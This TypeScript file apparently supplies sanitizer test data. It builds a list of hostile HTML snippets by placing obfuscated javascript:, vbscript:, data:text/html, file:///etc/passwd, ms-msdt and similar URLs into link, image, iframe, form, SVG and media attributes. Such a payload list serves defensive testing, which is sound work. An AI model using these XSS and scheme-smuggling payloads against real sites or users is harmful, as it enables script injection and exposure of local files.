import type { Payload } from './payload';

/** Addresses that run something or lead out, plain and disguised, as they stand in an attribute in double quotes. */
const ADDRESSES: readonly string[] = [
  'javascript:{run}',
  'JaVaScRiPt:{run}',
  ' javascript:{run}',
  '\tjavascript:{run}',
  'java\nscript:{run}',
  'java\tscript:{run}',
  'jav&#x09;ascript:{run}',
  'jav&#x0A;ascript:{run}',
  '&#14; javascript:{run}',
  '&#1;javascript:{run}',
  '&#x6A;avascript&colon;{run}',
  '&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116:{run}',
  'javascript&Tab;:{run}',
  'javascript&NewLine;:{run}',
  'javascript://%0a{run}',
  'javascript://ok.example/%0d%0a{run}//https://ok.example',
  'javascript:/*https://ok.example/*/{run}',
  'javascript:%70wned(0);{run}',
  '\u00a0javascript:{run}',
  '\u2028javascript:{run}',
  '\ufeffjavascript:{run}',
  'ｊavascript:{run}',
  'feed:javascript:{run}',
  'view-source:javascript:{run}',
  'vbscript:{run}',
  'livescript:{run}',
  'mocha:{run}',
  'data:text/html,<script>{run}</script>',
  'data:text/html;base64,PHNjcmlwdD5wd25lZCgwKTwvc2NyaXB0Pg==',
  'data:text/html;charset=utf-7,+ADw-script+AD4-{run}+ADw-/script+AD4-',
  "data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>{run}</script>",
  "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{run}'/>",
  'data:,x',
  'blob:https://ok.example/1',
  'filesystem:https://ok.example/temporary/x.html',
  'about:blank',
  'chrome://settings',
  'devtools://devtools/bundled/inspector.html',
  'file:///etc/passwd',
  'smb://ok.example/share',
  'ms-msdt:/id PCWDiagnostic',
  'search-ms:query=x',
  'intent://ok.example#Intent;scheme=x;end',
  'tel:1',
  'commonplace://save?url={trap}',
  'commonplace-app://bundle/index.html',
  'commonplace-asset://x/y',
  '\\\\ok.example\\share',
  'mailto:a@ok.example?attach=/etc/passwd',
];

/** `{address}` stands for the address. */
const HOLDERS: readonly string[] = [
  '<a href="{address}">link</a>',
  '<a href="https://ok.example/" ping="{address}" target=_top>ping</a><area href="{address}">',
  '<img src="{address}" alt="picture"><image src="{address}"></image>',
  '<iframe src="{address}"></iframe><embed src="{address}"><object data="{address}"></object>',
  '<form action="{address}"><button formaction="{address}">go</button></form>',
  '<svg><a xlink:href="{address}" href="{address}"><text>t</text></a><use href="{address}" /></svg>',
  '<math href="{address}" xlink:href="{address}"><mi href="{address}">x</mi></math>',
  '<base href="{address}"><a href="x">relative</a>',
  '<link rel=stylesheet href="{address}"><script src="{address}"></script>',
  '<blockquote cite="{address}">quote</blockquote><q cite="{address}">q</q><ins cite="{address}">i</ins>',
  '<video src="{address}" poster="{address}"></video><audio src="{address}"></audio>',
];

/** Every address as a link and in one other place, all places in turn. */
export const HOSTILE_ADDRESSES: readonly Payload[] = ADDRESSES.flatMap((address, index) => {
  const [link = '', ...others] = HOLDERS;
  const other = others[index % others.length] ?? '';
  return [`${link}${other}`.replaceAll('{address}', address)];
});
